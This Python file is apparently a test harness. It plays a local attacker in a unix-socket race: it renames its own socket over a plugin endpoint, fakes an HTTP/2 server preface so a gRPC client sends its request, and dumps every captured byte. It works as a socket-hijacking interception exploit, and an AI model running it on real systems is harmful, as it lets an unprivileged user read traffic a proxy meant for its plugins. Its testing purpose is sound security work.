"""A local attacker for the plugin-socket race: run as an unprivileged uid, it swaps its own socket in.

Usage: `socket_thief.py OWN_DIR TARGET`. It listens on a unix socket in OWN_DIR (a directory it
owns), prints `ready`, and then obeys its stdin line by line:

- `swap`: rename its socket over TARGET (a plugin endpoint); prints `swapped` or `refused ERRNO`.
- `report`: prints the number of connections accepted and, hex-encoded, every byte received, and exits.

It answers each connection with an HTTP/2 server preface (an empty SETTINGS frame and an ack), so a
gRPC client goes on to send its request: whatever the proxy would tell a plugin ends up in the report.
No third-party imports: it runs under the attacker's uid with nothing but the interpreter.
"""

from __future__ import annotations

import errno
import os
import socket
import sys
import threading

_SETTINGS = b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"
_SETTINGS_ACK = b"\x00\x00\x00\x04\x01\x00\x00\x00\x00"


class Recorder:
    def __init__(self) -> None:
        self.lock = threading.Lock()
        self.connections = 0
        self.received = bytearray()

    def serve(self, listener: socket.socket) -> None:
        while True:
            connection, _ = listener.accept()
            with self.lock:
                self.connections += 1
            threading.Thread(target=self._read, args=(connection,), daemon=True).start()

    def _read(self, connection: socket.socket) -> None:
        try:
            connection.sendall(_SETTINGS + _SETTINGS_ACK)
            while chunk := connection.recv(65536):
                with self.lock:
                    self.received += chunk
        except OSError:
            pass


def main(own_dir: str, target: str) -> None:
    own = os.path.join(own_dir, "thief.sock")
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    listener.bind(own)
    listener.listen(16)
    recorder = Recorder()
    threading.Thread(target=recorder.serve, args=(listener,), daemon=True).start()
    print("ready", flush=True)
    for line in sys.stdin:
        command = line.strip()
        if command == "swap":
            try:
                os.rename(own, target)
                print("swapped", flush=True)
            except OSError as error:
                print(f"refused {errno.errorcode.get(error.errno, error.errno)}", flush=True)
        elif command == "report":
            with recorder.lock:
                print(recorder.connections, recorder.received.hex(), flush=True)
            return


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2])
